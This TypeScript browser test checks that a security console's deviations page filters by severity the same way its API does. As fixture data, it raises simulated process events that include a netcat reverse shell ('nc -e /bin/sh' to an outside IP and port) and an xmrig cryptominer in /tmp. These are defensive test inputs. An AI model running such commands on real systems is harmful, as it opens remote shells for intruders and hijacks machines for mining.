/**
 * The deviations page's URL names its severity filter as the API does: `severity` (a list) —
 * a link with `?severity=high` opens the filtered list, the filter form writes `severity`, and
 * the same query string gives the same rows from /api/v1/deviations. A `minSeverity` link (the
 * API's threshold) is translated to the list.
 */
import t from 'tap';
import type { Page } from 'playwright-core';
import { NEEDS_CHROMIUM, launchBrowser, signIn } from '../helpers/browser.js';
import { HOUR, learnScene, proc, startHarness, T0, type Harness } from '../helpers/api-harness.js';

declare const document: { querySelectorAll(selector: string): ArrayLike<{ getAttribute(n: string): string | null }> };

/**
 * The ids of the table's rows, once they are `expected` (the page re-renders after the URL
 * changes: waiting for the expected rows, within playwright's timeout, rather than reading the old ones).
 */
async function rowIds(page: Page, expected: number[]): Promise<number[]> {
  const read = () => Array.from(document.querySelectorAll('table.grid tbody tr[data-id]')).map((r) => Number(r.getAttribute('data-id')));
  const want = [...expected].sort().join(',');
  await page.waitForFunction((w) => Array.from(document.querySelectorAll('table.grid tbody tr[data-id]')).map((r) => Number(r.getAttribute('data-id'))).sort().join(',') === w, want).catch(() => undefined);
  return (await page.evaluate(read)).sort();
}

async function apiIds(h: Harness, search: string): Promise<number[]> {
  return ((await h.call('GET', `/api/v1/deviations${search}`)).body.items as { id: number }[]).map((d) => d.id);
}

t.test('the severity filter: the same name and meaning in the console URL and the API', NEEDS_CHROMIUM, async (t) => {
  const h = await startHarness(t);
  const { web, worker } = await learnScene(h);
  const raised = [
    await h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444')),
    await h.raise(proc(worker, T0 + 3 * HOUR + 1000, '/usr/local/bin/report-tool')),
    await h.raise(proc(web, T0 + 3 * HOUR + 2000, '/tmp/.x/xmrig', '--donate-level 1')),
  ];
  const severities = [...new Set(raised.map((d) => d.severity))];
  t.ok(severities.length >= 2, `deviations of several severities: ${severities.join(', ')}`);
  const picked = raised[0]!.severity;
  const expected = raised.filter((d) => d.severity === picked).map((d) => d.id).sort();

  const page = await (await launchBrowser(t)).newPage();
  await signIn(page, `${h.base}/ui/deviations?severity=${picked}`, h.tokens.viewer);
  await page.waitForSelector('h1:text("Deviations")');
  t.same(await rowIds(page, expected), expected, `?severity=${picked}: only ${picked} deviations`);
  t.same((await apiIds(h, `?severity=${picked}`)).sort(), expected, 'as the API answers the same query');
  t.equal(await page.inputValue('select[name=severity]'), picked, 'the form shows the linked filter');

  // The form writes the same name: "low and up" is the list the API takes.
  await page.selectOption('select[name=severity]', { label: 'low and up' });
  await page.waitForURL(/[?&]severity=low%2Cmedium%2Chigh%2Ccritical(&|$)/);
  const search = `?${new URL(page.url()).hash.split('?')[1]}`;
  const lowAndUp = (await apiIds(h, search)).sort();
  t.equal(lowAndUp.length, raised.length, 'every raised deviation is low or higher');
  t.same(await rowIds(page, lowAndUp), lowAndUp, `${search}: the rows the API gives for the console's own query`);

  // The API's threshold name, as an older link may carry it.
  await page.goto(`${h.base}/ui/deviations?minSeverity=${picked}`);
  await page.waitForSelector('h1:text("Deviations")');
  const fromMin = (await apiIds(h, `?minSeverity=${picked}`)).sort();
  t.same(await rowIds(page, fromMin), fromMin, 'minSeverity: this severity and up');
});
